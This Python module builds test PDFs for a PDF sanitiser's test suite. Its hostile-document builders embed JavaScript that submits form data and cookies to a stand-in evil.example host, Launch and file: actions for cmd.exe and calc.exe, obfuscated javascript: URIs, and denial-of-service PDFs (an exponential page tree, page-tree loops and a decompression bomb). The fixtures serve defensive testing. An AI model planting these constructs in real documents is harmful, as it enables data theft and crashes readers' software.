"""Builders for sample PDFs used by tests/test_pdf.py.

Every function returns the bytes of a small, deterministic PDF.  Normal
documents are drawn with reportlab (``invariant=1`` makes the output
byte-stable); unusual page-tree layouts are assembled from pypdf's low-level
objects so the tests exercise structures reportlab never writes (inherited
``/Resources``, ``/Contents`` arrays, pages without resources...).
"""

from __future__ import annotations

import io

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    IndirectObject,
    NameObject,
    NumberObject,
    RectangleObject,
    TextStringObject,
)
from reportlab.lib.pagesizes import A4, landscape
from reportlab.pdfgen import canvas


def page_marker(index: int) -> str:
    """Heading text drawn on page *index* (0-based) by :func:`report_pdf`."""
    return f"Statistik Daerah Kabupaten Majene - Halaman {index + 1}"


def _draw_report_page(c: canvas.Canvas, index: int, width: float, height: float) -> None:
    c.setFont("Helvetica-Bold", 14)
    c.drawString(50, height - 60, page_marker(index))
    c.setFont("Helvetica", 10)
    y = height - 85
    for line in (
        "Tabel berikut menyajikan jumlah penduduk menurut kecamatan dan jenis kelamin.",
        "Sumber: Proyeksi Penduduk Interim (angka sementara), diolah oleh BPS.",
    ):
        c.drawString(50, y, line)
        y -= 14
    # a ruled table of numbers filling most of the page
    columns = ("Kecamatan", "Laki-laki", "Perempuan", "Jumlah", "Rasio JK")
    col_x = [50 + i * (width - 100) / len(columns) for i in range(len(columns) + 1)]
    top = y - 10
    row_h = 16
    rows = int((top - 60) // row_h)
    c.setLineWidth(0.5)
    for r in range(rows + 1):
        c.line(col_x[0], top - r * row_h, col_x[-1], top - r * row_h)
    for x in col_x:
        c.line(x, top, x, top - rows * row_h)
    c.setFont("Helvetica-Bold", 9)
    for i, name in enumerate(columns):
        c.drawString(col_x[i] + 4, top - 12, name)
    c.setFont("Helvetica", 9)
    for r in range(1, rows):
        seed = (index * 7919 + r * 104729) % 100000
        male, female = 10000 + seed % 9000, 10000 + (seed * 31) % 9000
        values = (f"Kecamatan {r:02d}", f"{male:,}", f"{female:,}", f"{male + female:,}",
                  f"{100 * male / female:.1f}")
        for i, value in enumerate(values):
            c.drawString(col_x[i] + 4, top - r * row_h - 12, value)


def report_pdf(pages: int = 3, pagesize: tuple[float, float] = A4) -> bytes:
    """Multi-page statistical report: heading, paragraph and a ruled table per page."""
    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=pagesize, invariant=1)
    width, height = pagesize
    for index in range(pages):
        _draw_report_page(c, index, width, height)
        c.showPage()
    c.save()
    return buf.getvalue()


def landscape_pdf(pages: int = 2) -> bytes:
    """Landscape A4 pages (wide /MediaBox, no /Rotate)."""
    return report_pdf(pages, landscape(A4))


def rotated_pdf() -> bytes:
    """Portrait A4 pages with ``/Rotate`` 0, 90, 180 and 270 (displayed landscape
    for 90/270), plus a page with a non-zero-origin /MediaBox, a smaller
    /CropBox and /Rotate 90, plus a reportlab ``setPageRotation(270)`` page
    (reportlab swaps the media box for those)."""
    base = PdfReader(io.BytesIO(report_pdf(5)))
    writer = PdfWriter()
    for index, rotation in enumerate((0, 90, 180, 270)):
        page = writer.add_page(base.pages[index])
        page.rotation = rotation
    page = writer.add_page(base.pages[4])
    page.mediabox = RectangleObject([20, 30, 615.2756, 871.8898])
    page.cropbox = RectangleObject([60, 80, 560, 800])
    page.rotation = 90

    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=A4, invariant=1)
    c.setPageRotation(270)
    c.drawString(72, 500, "reportlab rotated page")
    c.showPage()
    c.save()
    writer.add_page(PdfReader(buf).pages[0])

    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# ---------------------------------------------------------------------------
# Low-level constructions
# ---------------------------------------------------------------------------


def _stream(writer: PdfWriter, data: bytes) -> IndirectObject:
    stream = DecodedStreamObject()
    stream.set_data(data)
    return writer._add_object(stream)


def _helvetica(writer: PdfWriter) -> IndirectObject:
    return writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Font"),
        NameObject("/Subtype"): NameObject("/Type1"),
        NameObject("/BaseFont"): NameObject("/Helvetica"),
        NameObject("/Encoding"): NameObject("/WinAnsiEncoding"),
    }))


def _text(y: int, text: str) -> bytes:
    return f"BT /F1 12 Tf 72 {y} Td ({text}) Tj ET".encode()


def _assemble(writer: PdfWriter, pages: list[DictionaryObject]) -> bytes:
    pages_node = writer.root_object["/Pages"]
    for page in pages:
        page[NameObject("/Type")] = NameObject("/Page")
        page[NameObject("/Parent")] = pages_node.indirect_reference
        pages_node["/Kids"].append(writer._add_object(page))
    pages_node[NameObject("/Count")] = NumberObject(len(pages))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def inherited_resources_pdf(pages: int = 3) -> bytes:
    """Pages carry neither /Resources nor /MediaBox: both are inherited from
    the root /Pages node (the font dictionary is a direct object there)."""
    writer = PdfWriter()
    pages_node = writer.root_object["/Pages"]
    pages_node[NameObject("/Resources")] = DictionaryObject({
        NameObject("/Font"): DictionaryObject({NameObject("/F1"): _helvetica(writer)}),
    })
    pages_node[NameObject("/MediaBox")] = ArrayObject(
        [NumberObject(0), NumberObject(0), FloatObject(595.28), FloatObject(841.89)]
    )
    page_list = [
        DictionaryObject({NameObject("/Contents"): _stream(writer, _text(700, f"Inherited page {i + 1}"))})
        for i in range(pages)
    ]
    return _assemble(writer, page_list)


def contents_array_pdf() -> bytes:
    """One page whose /Contents is an array of three streams (the split falls
    between operators, the last stream has no trailing newline)."""
    writer = PdfWriter()
    font = _helvetica(writer)
    page = DictionaryObject({
        NameObject("/MediaBox"): RectangleObject([0, 0, 612, 792]),
        NameObject("/Resources"): DictionaryObject({
            NameObject("/Font"): DictionaryObject({NameObject("/F1"): font}),
        }),
        NameObject("/Contents"): ArrayObject([
            _stream(writer, _text(700, "Part one of the content") + b"\n"),
            _stream(writer, b"1 0 0 1 0 -40 cm\n" + _text(700, "Part two of the content")),
            _stream(writer, b"0 0 1 rg 72 100 200 20 re f"),
        ]),
    })
    return _assemble(writer, [page])


def no_resources_pdf() -> bytes:
    """Page 1 has vector content but no /Resources; page 2 has neither
    /Resources nor /Contents (a truly blank page)."""
    writer = PdfWriter()
    first = DictionaryObject({
        NameObject("/MediaBox"): RectangleObject([0, 0, 595, 842]),
        NameObject("/Contents"): _stream(writer, b"2 w 72 72 m 500 770 l S"),
    })
    second = DictionaryObject({NameObject("/MediaBox"): RectangleObject([0, 0, 595, 842])})
    return _assemble(writer, [first, second])


def zero_page_pdf() -> bytes:
    """A syntactically valid PDF whose page tree is empty."""
    out = io.BytesIO()
    PdfWriter().write(out)
    return out.getvalue()


def encrypted_pdf(user_password: str = "rahasia") -> bytes:
    """A password-protected copy of :func:`report_pdf` (RC4-128: no crypto
    library needed)."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(report_pdf(2))))
    writer.encrypt(user_password, algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def owner_only_encrypted_pdf() -> bytes:
    """Encrypted with an empty user password (opens without a password)."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(report_pdf(1))))
    writer.encrypt("", owner_password="pemilik", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def truncated_pdf() -> bytes:
    """The first 60% of a valid PDF (an interrupted upload)."""
    data = report_pdf(3)
    return data[: int(len(data) * 0.6)]


def slightly_truncated_pdf() -> bytes:
    """A valid PDF missing only its last few bytes (``%%EOF`` cut off)."""
    return report_pdf(2)[:-4]


def corrupt_pdf() -> bytes:
    """Has a PDF header and an ``%%EOF`` marker but garbage in between."""
    return b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + b"this is not a pdf body\n" * 20 + b"%%EOF\n"


def not_pdf() -> bytes:
    """A Word-like binary (ZIP container signature) - definitely not a PDF."""
    return b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 200 + b"word/document.xml"


# ---------------------------------------------------------------------------
# Hostile documents: active content
# ---------------------------------------------------------------------------

#: Links and texts :func:`active_content_pdf` carries that must survive sanitising.
SAFE_LINK = "https://www.bps.go.id/id/publication"
SAFE_MAIL = "mailto:perpustakaan@bps.go.id"
OUTLINE_TITLES = ("Bab 1 Pendahuluan", "Bab 2 Kependudukan", "Situs BPS")
DOCUMENT_TITLE = "Kabupaten Majene Dalam Angka 2024"


def _js(code: str) -> DictionaryObject:
    return DictionaryObject({
        NameObject("/Type"): NameObject("/Action"),
        NameObject("/S"): NameObject("/JavaScript"),
        NameObject("/JS"): TextStringObject(code),
    })


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return action


def _annotation(subtype: str, y: int, **entries) -> DictionaryObject:
    annotation = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"),
        NameObject("/Subtype"): NameObject(subtype),
        NameObject("/Rect"): RectangleObject([50, y, 250, y + 12]),
        NameObject("/Border"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(0)]),
    })
    for key, value in entries.items():
        annotation[NameObject(f"/{key}")] = value
    return annotation


def _embedded_file(writer: PdfWriter, name: str) -> IndirectObject:
    payload = DecodedStreamObject()
    payload.set_data(b"MZ\x90\x00 not really a program")
    payload[NameObject("/Type")] = NameObject("/EmbeddedFile")
    return writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Filespec"),
        NameObject("/F"): TextStringObject(name),
        NameObject("/UF"): TextStringObject(name),
        NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(payload)}),
    }))


def active_content_pdf() -> bytes:
    """A two-page report (see :func:`report_pdf`) armed with every kind of active content.

    Catalog: JavaScript ``/OpenAction``, ``/AA``, ``/Names /JavaScript`` (the
    script in a stream) and ``/Names /EmbeddedFiles``, an AcroForm with XFA
    and a text field whose widget has keystroke JavaScript.  Page 1: ``/AA``
    and links of every kind: safe (https, mailto, GoTo action, /Dest, a GoTo
    whose ``/Next`` runs JavaScript) and unsafe (``javascript:``, a
    ``java<TAB>script:`` spelling, ``file:``, Launch, SubmitForm, ImportData,
    GoToR, GoToE), a file-attachment and a RichMedia annotation.  Outline: a
    GoTo entry, an entry running JavaScript and an https entry.  Metadata
    title :data:`DOCUMENT_TITLE`.
    """
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(report_pdf(2))))
    root = writer.root_object
    first, second = writer.pages[0], writer.pages[1]
    to_second = ArrayObject([second.indirect_reference, NameObject("/Fit")])

    root[NameObject("/OpenAction")] = writer._add_object(_js("app.alert('dibuka')"))
    root[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): _js("app.alert('ditutup')")})
    script = DecodedStreamObject()
    script.set_data(b"this.submitForm('https://evil.example/steal');")
    root[NameObject("/Names")] = DictionaryObject({
        NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): ArrayObject([
            TextStringObject("init"),
            writer._add_object(_action("/JavaScript", JS=writer._add_object(script))),
        ])}),
        NameObject("/EmbeddedFiles"): DictionaryObject({NameObject("/Names"): ArrayObject([
            TextStringObject("payload.exe"), _embedded_file(writer, "payload.exe"),
        ])}),
    })
    first[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _js("app.alert('halaman')")})

    links = [
        _action("/URI", URI=TextStringObject(SAFE_LINK)),
        _action("/URI", URI=TextStringObject(SAFE_MAIL)),
        _action("/GoTo", D=to_second),
        _action("/GoTo", D=to_second, Next=_js("app.alert('berikutnya')")),
        _action("/URI", URI=TextStringObject("javascript:app.alert(document.cookie)")),
        _action("/URI", URI=TextStringObject(" java\tscript:alert(2)")),
        _action("/URI", URI=TextStringObject("file:///C:/Windows/System32/calc.exe")),
        _action("/Launch", F=TextStringObject("cmd.exe"),
                Win=DictionaryObject({NameObject("/F"): TextStringObject("cmd.exe")})),
        _action("/SubmitForm", F=DictionaryObject({
            NameObject("/FS"): NameObject("/URL"),
            NameObject("/F"): TextStringObject("https://evil.example/collect"),
        })),
        _action("/ImportData", F=TextStringObject("data.fdf")),
        _action("/GoToR", F=TextStringObject("other.pdf"), D=ArrayObject([NumberObject(0), NameObject("/Fit")])),
        _action("/GoToE", T=DictionaryObject({NameObject("/R"): NameObject("/C"),
                                             NameObject("/N"): TextStringObject("payload.pdf")})),
    ]
    annotations = [
        writer._add_object(_annotation("/Link", 700 - 14 * i, A=action)) for i, action in enumerate(links)
    ]
    annotations.append(writer._add_object(_annotation("/Link", 500, Dest=to_second)))
    annotations.append(writer._add_object(_annotation(
        "/FileAttachment", 480, FS=_embedded_file(writer, "lampiran.exe"), Contents=TextStringObject("Lampiran"),
    )))
    annotations.append(writer._add_object(_annotation(
        "/RichMedia", 460, RichMediaContent=DictionaryObject({
            NameObject("/Assets"): DictionaryObject({NameObject("/Names"): ArrayObject([
                TextStringObject("movie.swf"), _embedded_file(writer, "movie.swf"),
            ])}),
        }),
    )))
    field = writer._add_object(_annotation(
        "/Widget", 440, FT=NameObject("/Tx"), T=TextStringObject("nama"),
        AA=DictionaryObject({NameObject("/K"): _js("event.value = 'x'")}),
        P=first.indirect_reference,
    ))
    annotations.append(field)
    first[NameObject("/Annots")] = ArrayObject(annotations)
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp:xdp><script>app.alert('xfa')</script></xdp:xdp>")
    root[NameObject("/AcroForm")] = DictionaryObject({
        NameObject("/Fields"): ArrayObject([field]),
        NameObject("/XFA"): writer._add_object(xfa),
    })

    outline = writer._add_object(DictionaryObject({NameObject("/Type"): NameObject("/Outlines")}))
    items = [
        DictionaryObject({NameObject("/Dest"): to_second}),
        DictionaryObject({NameObject("/A"): _js("app.launchURL('https://evil.example')")}),
        DictionaryObject({NameObject("/A"): _action("/URI", URI=TextStringObject("https://www.bps.go.id/"))}),
    ]
    refs = [writer._add_object(item) for item in items]
    for index, (item, title) in enumerate(zip(items, OUTLINE_TITLES)):
        item[NameObject("/Title")] = TextStringObject(title)
        item[NameObject("/Parent")] = outline
        if index:
            item[NameObject("/Prev")] = refs[index - 1]
        if index < len(refs) - 1:
            item[NameObject("/Next")] = refs[index + 1]
    outline_dict = outline.get_object()
    outline_dict[NameObject("/First")] = refs[0]
    outline_dict[NameObject("/Last")] = refs[-1]
    outline_dict[NameObject("/Count")] = NumberObject(len(refs))
    root[NameObject("/Outlines")] = outline
    writer.add_metadata({"/Title": DOCUMENT_TITLE})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# ---------------------------------------------------------------------------
# Hostile documents: cost
# ---------------------------------------------------------------------------


def many_pages_pdf(pages: int) -> bytes:
    """*pages* distinct, nearly empty pages sharing one content stream (about 100 bytes a page)."""
    writer = PdfWriter()
    resources = writer._add_object(DictionaryObject({
        NameObject("/Font"): DictionaryObject({NameObject("/F1"): _helvetica(writer)}),
    }))
    content = _stream(writer, _text(700, "Halaman tabel"))
    page_list = [
        DictionaryObject({
            NameObject("/MediaBox"): RectangleObject([0, 0, 595, 842]),
            NameObject("/Resources"): resources,
            NameObject("/Contents"): content,
        })
        for _ in range(pages)
    ]
    return _assemble(writer, page_list)


def _single_page(writer: PdfWriter, text: str = "Satu halaman") -> DictionaryObject:
    return DictionaryObject({
        NameObject("/Type"): NameObject("/Page"),
        NameObject("/MediaBox"): RectangleObject([0, 0, 595, 842]),
        NameObject("/Resources"): DictionaryObject({
            NameObject("/Font"): DictionaryObject({NameObject("/F1"): _helvetica(writer)}),
        }),
        NameObject("/Contents"): _stream(writer, _text(700, text)),
    })


def _write(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def huge_count_pdf(count: int = 2_147_483_647) -> bytes:
    """One real page under a root /Pages node whose /Count claims *count*."""
    writer = PdfWriter()
    page = writer._add_object(_single_page(writer))
    pages_node = writer.root_object["/Pages"]
    page.get_object()[NameObject("/Parent")] = pages_node.indirect_reference
    pages_node[NameObject("/Kids")] = ArrayObject([page])
    pages_node[NameObject("/Count")] = NumberObject(count)
    return _write(writer)


def shared_subtree_pdf(levels: int = 40) -> bytes:
    """A page tree of *levels* /Pages nodes, each listing the next one twice:
    2**levels pages from a file of a few kilobytes (a "billion laughs" page tree)."""
    writer = PdfWriter()
    pages_node = writer.root_object["/Pages"]
    leaf = writer._add_object(_single_page(writer))
    below = leaf
    for _ in range(levels):
        node = writer._add_object(DictionaryObject({
            NameObject("/Type"): NameObject("/Pages"),
            NameObject("/Kids"): ArrayObject([below, below]),
        }))
        below.get_object()[NameObject("/Parent")] = node
        below = node
    pages_node[NameObject("/Kids")] = ArrayObject([below])
    pages_node[NameObject("/Count")] = NumberObject(2 ** 31 - 1)
    below.get_object()[NameObject("/Parent")] = pages_node.indirect_reference
    return _write(writer)


def deep_page_tree_pdf(depth: int = 5000) -> bytes:
    """One page at the bottom of a chain of *depth* nested /Pages nodes."""
    writer = PdfWriter()
    pages_node = writer.root_object["/Pages"]
    below = writer._add_object(_single_page(writer))
    for _ in range(depth):
        node = writer._add_object(DictionaryObject({
            NameObject("/Type"): NameObject("/Pages"),
            NameObject("/Kids"): ArrayObject([below]),
            NameObject("/Count"): NumberObject(1),
        }))
        below.get_object()[NameObject("/Parent")] = node
        below = node
    pages_node[NameObject("/Kids")] = ArrayObject([below])
    pages_node[NameObject("/Count")] = NumberObject(1)
    below.get_object()[NameObject("/Parent")] = pages_node.indirect_reference
    return _write(writer)


def page_tree_loop_pdf(direct: bool = True) -> bytes:
    """A page tree that refers back to itself: the root /Pages node lists a page
    and itself (*direct*), or a child node that lists the root again."""
    writer = PdfWriter()
    pages_node = writer.root_object["/Pages"]
    pages_ref = pages_node.indirect_reference
    page = writer._add_object(_single_page(writer))
    page.get_object()[NameObject("/Parent")] = pages_ref
    if direct:
        pages_node[NameObject("/Kids")] = ArrayObject([page, pages_ref])
    else:
        child = writer._add_object(DictionaryObject({
            NameObject("/Type"): NameObject("/Pages"),
            NameObject("/Kids"): ArrayObject([pages_ref]),
            NameObject("/Parent"): pages_ref,
            NameObject("/Count"): NumberObject(1),
        }))
        pages_node[NameObject("/Kids")] = ArrayObject([page, child])
    pages_node[NameObject("/Count")] = NumberObject(2)
    return _write(writer)


def _compressed_page(writer: PdfWriter, content: bytes) -> DictionaryObject:
    stream = DecodedStreamObject()
    stream.set_data(content)
    page = _single_page(writer, "Halaman berat")
    page[NameObject("/Contents")] = writer._add_object(stream.flate_encode(level=9))
    return page


def slow_text_pdf(pages: int = 20, operators: int = 100_000) -> bytes:
    """*pages* pages sharing one compressed content stream of *operators* empty
    text-showing operators (``() Tj``): about 3 KB that keep pypdf's text
    extraction busy for seconds a page, with no text to stop it early."""
    writer = PdfWriter()
    page = _compressed_page(writer, b"BT /F1 12 Tf\n" + b"() Tj\n" * operators + b"ET\n")
    shared = page.raw_get("/Contents")
    page_list = [page]
    for _ in range(pages - 1):
        other = _single_page(writer, "Halaman berat")
        other[NameObject("/Contents")] = shared
        page_list.append(other)
    return _assemble(writer, page_list)


def memory_hungry_pdf(megabytes: int = 70) -> bytes:
    """One page whose content stream inflates from about 70 KB to *megabytes* MB."""
    writer = PdfWriter()
    return _assemble(writer, [_compressed_page(writer, b" " * (megabytes * 1024 * 1024))])
